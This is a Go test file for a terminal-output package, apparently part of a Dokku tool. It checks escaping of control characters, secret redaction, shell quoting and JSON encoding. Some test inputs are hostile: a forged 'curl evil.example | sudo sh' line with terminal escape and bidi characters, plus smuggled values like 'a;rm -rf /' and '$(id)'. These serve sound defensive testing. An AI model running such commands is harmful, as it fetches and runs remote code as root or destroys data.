package say

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/hashicorp/go-multierror"
)

// printed is what a printer writes to either stream.
func printed(ascii bool, print func(*Printer)) string {
	var out bytes.Buffer
	print(&Printer{Out: &out, Err: &out, ASCII: ascii})
	return out.String()
}

// A certificate was called so that it printed a line of its own among the findings on
// root's terminal, in our words: " !     To do: curl ... | sudo sh".
const forged = "x\n !     To do: curl evil.example | sudo sh\r\x1b[2J\u202e"

func TestAnArgumentBeginsNoLine(t *testing.T) {
	err := errors.New(forged)
	for about, print := range map[string]func(*Printer){
		"title":            func(p *Printer) { p.Title("%s", forged) },
		"step":             func(p *Printer) { p.Step("a %s b", forged) },
		"detail":           func(p *Printer) { p.Detail("%v", forged) },
		"result":           func(p *Printer) { p.Result("%v", []string{forged}) },
		"trouble":          func(p *Printer) { p.Trouble("%q", forged) },
		"table":            func(p *Printer) { p.Table("  ", [][]string{{forged, "b"}}, nil) },
		"error":            func(p *Printer) { p.Error(err) },
		"wrapped":          func(p *Printer) { p.Error(fmt.Errorf("%s: %w", forged, err)) },
		"error as a value": func(p *Printer) { p.Trouble("%s", fmt.Errorf("a: %w", err)) },
		"type of its own":  func(p *Printer) { p.Result("%s", stringer(forged)) },
	} {
		for _, ascii := range []bool{false, true} {
			text := printed(ascii, print)
			if strings.Count(text, "\n") != 1 || strings.ContainsAny(text, "\r\x1b\u202e") {
				t.Errorf("%s: %q", about, text)
			}
		}
	}
	hint := printed(false, func(p *Printer) { p.Error(Hint(errors.New("a"), "To do: %s", forged)) })
	if strings.Count(hint, "\n") != 2 {
		t.Errorf("a hint: %q", hint)
	}
}

type stringer string

func (s stringer) String() string { return string(s) }

func TestPlain(t *testing.T) {
	for text, want := range map[string]string{
		"my-app.example.com": "my-app.example.com", "bücher.example": "bücher.example", `~^www\d+`: `~^www\d+`, "a  b": "a  b",
		"a\nb\tc\rd": `a\nb\tc\rd`, "\x1b]0;x\a": `\x1b]0;x\a`, "\x00\x7f\u0085\u009b": `\x00\x7f\u0085\u009b`,
		"a\u2028b\u2029c": `a\u2028b\u2029c`, "\u202e\u2066\u200f": `\u202e\u2066\u200f`, "\u00a0": `\u00a0`,
		"caf\xe9": `caf\xe9`, "\ufffd": "\ufffd", "\U000e0041": `\U000e0041`, "": "",
		"-----> x": `-----\x3e x`, "=====> x": `=====\x3e x`, " !     x": ` !\x20    x`, "a -> b": "a -> b",
	} {
		if got := Plain(text); got != want {
			t.Errorf("%q is printed as %s, not %s", text, got, want)
		}
	}
}

func TestASCII(t *testing.T) {
	got := printed(true, func(p *Printer) { p.Step("“%s” → …", "bücher…") })
	if want := "-----> \"b\\u00fccher...\" -> ...\n"; got != want {
		t.Errorf("%q, not %q", got, want)
	}
}

func FuzzPlain(f *testing.F) {
	for _, seed := range []string{forged, "ü\xff", "----->", "! \u2028"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		plain := Plain(text)
		if !utf8.ValidString(plain) || strings.IndexFunc(plain, unprintable) >= 0 {
			t.Fatalf("%q is printed as %q", text, plain)
		}
		if strings.IndexFunc(ascii(plain), func(r rune) bool { return r < ' ' || r > '~' }) >= 0 {
			t.Fatalf("%q is printed as %q", text, ascii(plain))
		}
	})
}

// Where an upgrade was refused, only the inner ones of its reasons were printed.
func TestErrorsOfSeveral(t *testing.T) {
	a, b := Hint(errors.New("a"), "do a"), errors.New("b\nx")
	for _, c := range []struct {
		about string
		err   error
		want  string
		line  string
	}{
		{"one", a, " !     a\n !     do a\n", "a"},
		{"joined", errors.Join(a, b), " !     a\n !     do a\n !     b\\nx\n", "a; b\nx"},
		{"a multierror", multierror.Append(nil, a, b), " !     a\n !     do a\n !     b\\nx\n", "a; b\nx"},
		{"words around several", fmt.Errorf("refused: %w", errors.Join(a, b)), " !     refused: a\n !     b\\nx\n !     do a\n", "refused: a; b\nx"},
		{"several among several", errors.Join(errors.New("refused"), fmt.Errorf("c: %w", multierror.Append(nil, a))), " !     refused\n !     c: a\n !     do a\n", "refused; c: a"},
		{"words between two", fmt.Errorf("%w, and %w", a, b), " !     a, and b\\nx\n !     do a\n", "a, and b\nx"},
		{"two hints", Hint(fmt.Errorf("c: %w", a), "do c"), " !     c: a\n !     do c\n !     do a\n", "c: a"},
		{"nothing", errors.New(""), " !\n", ""},
	} {
		if got := printed(false, func(p *Printer) { p.Error(c.err) }); got != c.want {
			t.Errorf("%s: %q, not %q", c.about, got, c.want)
		}
		if got := Line(c.err); got != c.line {
			t.Errorf("%s in a line: %q, not %q", c.about, got, c.line)
		}
	}
}

// A buildpack's URL with a token in it was printed in report and journal.
func TestRedact(t *testing.T) {
	for text, want := range map[string]string{
		"https://ghp_CANARY@github.com/x/y.git#v1":                                     "https://***@github.com/x/y.git#v1",
		"https://user:CANARY@github.com/x":                                             "https://***@github.com/x",
		"redis://:CA/NA@RY@db:6379/0":                                                  "redis://***@db:6379/0",
		"ssh://git@github.com/x and git@github.com:x":                                  "ssh://git@github.com/x and git@github.com:x",
		"302 to https://a.example/cb?code=CANARY&x=1, and more":                        "302 to https://a.example/cb?*** and more",
		`-v /a:/b -e API=CANARY --env 'B=CAN ARY' -e "C=CAN ARY" --build-arg=D=CANARY`: `-v /a:/b -e API=*** --env 'B=***' -e "C=***" --build-arg=D=***`,
		"-e CANARY_NAME": "-e CANARY_NAME",
		`SECRET_KEY_BASE="CAN ARY" OTHER=1 db_password='CANARY'`: "SECRET_KEY_BASE=*** OTHER=1 db_password=***",
		"--eab --hmac CANARY --kid 1":                            "--eab --hmac *** --kid 1",
		`{"password": "CAN ARY", "token":"CANARY","user":"me"}`:  `{"password": ***, "token":***,"user":"me"}`,
		`proxy_set_header Authorization "Basic CANARY";`:         `proxy_set_header Authorization "Basic ***";`,
		"Authorization: CANARY":                                  "Authorization: ***",
		"bearer CANARYCANARYCANARY":                              "bearer ***",
		"issued by CANARY.b+c@mail.example.org, until 2027":      "issued by ***, until 2027",
		"MAILTO=dokku@CANARY.example.org <CANARY_@example.org>":  "MAILTO=*** <***>",
		// and what is none
		"scale web=2 token=1 auth-sync=12":                                       "scale web=2 token=1 auth-sync=12",
		"dokku config:set --no-restart my-app DOKKU_PROXY_PORT_MAP=http:80:5000": "dokku config:set --no-restart my-app DOKKU_PROXY_PORT_MAP=http:80:5000",
		"https://dokku.com/docs/configuration/ssl/":                              "https://dokku.com/docs/configuration/ssl/",
		"token-app: its containers are not started, authorization failed":        "token-app: its containers are not started, authorization failed",
		"dokku@dokku.example:my-app":                                             "dokku@dokku.example:my-app",
		"basic authentication":                                                   "basic authentication",
		"image@sha256:0123 package@1.2.3 a@b":                                    "image@sha256:0123 package@1.2.3 a@b",
	} {
		if got := Redact(text); got != want {
			t.Errorf("%s\nis shown as\n%s\nnot as\n%s", text, got, want)
		}
		if strings.Contains(Redact(text), "CANARY ") || Redact(Redact(text)) != Redact(text) {
			t.Errorf("%s is shown as %s, and that as %s", text, Redact(text), Redact(Redact(text)))
		}
	}
}

func TestCommand(t *testing.T) {
	for _, c := range []struct{ word, want string }{
		{"my-app", "my-app"}, {"web=2", "web=2"}, {"/home/dokku/a_b", "/home/dokku/a_b"}, {"*.example.com", "'*.example.com'"},
		{"", "''"}, {"a b", "'a b'"}, {"it's", `'it'\''s'`}, {"a;rm -rf /", "'a;rm -rf /'"}, {"$(id)`id`", "'$(id)`id`'"},
		{"~", "'~'"}, {"=ls", "'=ls'"}, {"a\nb", `$'a\012b'`}, {"é1", `$'\303\2511'`}, {"'\\\x1b", `$'\'\\\033'`}, {"\xff", `$'\377'`},
	} {
		if got := Word(c.word); got != c.want {
			t.Errorf("%q is given as %s, not as %s", c.word, got, c.want)
		}
	}
	if got := Command("dokku ps:scale", "a b", "web=1"); got != "dokku ps:scale 'a b' web=1" {
		t.Error(got)
	}
}

// Pasted into bash, a command has the words that were meant, and passes through what
// prints it unchanged.
func FuzzWord(f *testing.F) {
	for _, seed := range []string{forged, "a b", "'", "é\xff\n", "!x", "\\", "~root", "{a,b}", "-----> x"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, word string) {
		if strings.ContainsRune(word, 0) {
			t.Skip("no argument can hold one")
		}
		command := Command("printf %s", word)
		if text := printed(true, func(p *Printer) { p.Result("%s", command) }); Redact(command) == command && text != command+"\n" {
			t.Fatalf("%q is printed as %q", command, text)
		}
		out, err := exec.Command("bash", "-c", command).Output()
		if err != nil || string(out) != word {
			t.Fatalf("%q is given as %s, which bash takes for %q (%v)", word, command, out, err)
		}
	})
}

func TestJSON(t *testing.T) {
	type Inner struct{ Text string }
	type value struct {
		Inner
		Other  *Inner            `json:"other"`
		Names  []string          `json:"names"`
		Of     map[string][]byte `json:"of"`
		Any    any               `json:"any"`
		Hidden func()            `json:"-"`
		Empty  []string          `json:"empty,omitempty"`
	}
	v := value{Inner{"caf\xe9"}, &Inner{`C:\xerox \x5c`}, []string{"\u2028\x1b", "https://CANARY@a"}, map[string][]byte{"\xff": nil}, map[string]string{"a": "\xc3"}, func() {}, nil}
	out := printed(false, func(p *Printer) {
		if err := p.JSON(v); err != nil {
			t.Fatal(err)
		}
	})
	want := `{"Text":"caf\\xe9","other":{"Text":"C:\\xerox \\x5cx5c"},"names":["\u2028\u001b","https://***@a"],"of":{"\\xff":null},"any":{"a":"\\xc3"}}` + "\n"
	if out != want {
		t.Errorf("%s not %s", out, want)
	}
	if v.Names[1] != "https://CANARY@a" {
		t.Error("what was to be encoded has been changed")
	}
}

func FuzzJSON(f *testing.F) {
	for _, seed := range []string{forged, "\xff", `\xff`, `\\x5c\x5cx41`, "\u2028"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if Redact(text) != text {
			t.Skip()
		}
		line, err := EncodeJSON([]string{text})
		var back []string
		if err != nil || json.Unmarshal(line, &back) != nil || Bytes(back[0]) != text {
			t.Fatalf("%q is written as %s and read as %q (%v)", text, line, back, err)
		}
	})
}
